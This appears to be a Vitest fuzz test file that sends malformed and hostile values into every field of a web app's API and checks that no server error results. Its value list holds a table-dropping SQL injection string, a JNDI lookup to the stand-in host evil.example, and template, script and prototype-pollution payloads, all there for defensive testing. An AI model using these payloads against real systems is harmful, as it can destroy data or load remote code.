import { afterAll, beforeAll, expect, test } from "vitest";
import { seedProblems } from "./problemWorld.ts";
import { type Caller, createWorld, type World } from "./world.ts";

let world: World;
let calls: { call: string; fields: string[]; inBody: boolean }[];

interface Operation {
  parameters?: { name: string }[];
  requestBody?: {
    // Undefined: a multipart form.
    content: { "application/json"?: { schema: { properties?: Record<string, unknown> } } };
  };
}

beforeAll(async () => {
  world = await createWorld();
  await seedProblems(world);
  const reply = await world.call("guest", "GET /api/docs/openapi.json");
  const { paths } = JSON.parse(reply.text) as { paths: Record<string, Record<string, Operation>> };
  calls = Object.entries(paths).flatMap(([path, methods]) =>
    Object.entries(methods).map(([method, operation]) => {
      const body = operation.requestBody?.content["application/json"]?.schema.properties;
      return {
        call: `${method.toUpperCase()} ${path}`,
        fields: body ? Object.keys(body) : (operation.parameters ?? []).map(({ name }) => name),
        inBody: body !== undefined,
      };
    }),
  );
  // It would end the session that the other calls need; it has its own tests.
  calls = calls.filter(({ call }) => call !== "GET /api/logout");
});
afterAll(() => world.close());

const values: unknown[] = [
  "",
  " ",
  "0",
  "-1",
  0,
  -1,
  1.5,
  1e9,
  1e300,
  9007199254740993n.toString(),
  "99999999999999999999",
  "NaN",
  null,
  true,
  {},
  [],
  [[]],
  { toString: "x", length: -1 },
  ["1", "2"],
  "x".repeat(100_000),
  "题".repeat(2000),
  "👩‍👩‍👧‍👦\u202e\u0007",
  "a\0b",
  "\ud800",
  "'; drop table app_user; --",
  "%_\\",
  "${jndi:ldap://evil.example/a} {0} {{x}} <script>",
  "__proto__",
  "constructor",
];

/** Query strings contain text only; other values are skipped. */
function inQuery(call: string, field: string, value: unknown): string | undefined {
  if (typeof value === "object" && value !== null && !Array.isArray(value)) {
    return `${call}?${field}[x]=1`;
  }
  const text = Array.isArray(value) ? value.map(String) : [String(value)];
  if (text.join("").length > 2500 || !text.join("").isWellFormed()) return undefined;
  return `${call}?${text.map((each) => `${field}=${encodeURIComponent(each)}`).join("&")}`;
}

test.each<Caller>(["guest", "user", "root"])(
  "hostile values in every field of every call cause no server error (%s)",
  async (as) => {
    expect(calls.length).toBeGreaterThan(20);
    const broken: string[] = [];
    let sent = 0;
    for (const { call, fields, inBody } of calls) {
      for (const field of fields) {
        const outcomes = values.map(async (value) => {
          const target = inBody ? call : inQuery(call, field, value);
          if (target === undefined) return;
          const reply = await world.call(as, target, inBody ? { body: { [field]: value } } : {});
          sent += 1;
          const wrapped = reply.body.status === reply.status && reply.body.msg !== "";
          if (reply.status >= 500 || !wrapped) {
            broken.push(
              `${target.slice(0, 120)} ${JSON.stringify(value).slice(0, 60)}: ${reply.status}`,
            );
          }
        });
        await Promise.all(outcomes);
      }
    }
    expect(sent).toBeGreaterThan(800);
    expect(broken).toEqual([]);
    expect((await world.call("root", "GET /api/get-user-info")).status).toBe(200);
  },
  // Thousands of calls, beside other tests.
  240_000,
);

test.each([
  ["nothing", ""],
  ["a number", "7"],
  ["null", "null"],
  ["a list", "[]"],
  ["a text", '"x"'],
  ["half a document", '{"a":'],
  ["two documents", "{}{}"],
  ["a comment", "/* x */ {}"],
  ["a byte order mark", "\ufeff{}"],
  ["the same key twice", '{"username":"a","username":"b"}'],
  [
    "ten thousand keys",
    JSON.stringify(Object.fromEntries(Array.from({ length: 10_000 }, (_, i) => [`k${i}`, i]))),
  ],
])("a body of %s causes no server error", async (_what, body) => {
  for (const { call, inBody } of calls) {
    if (!inBody) continue;
    const reply = await world.call("user", call, { body });
    expect([call, reply.status < 500, reply.body.status]).toEqual([call, true, reply.status]);
  }
});
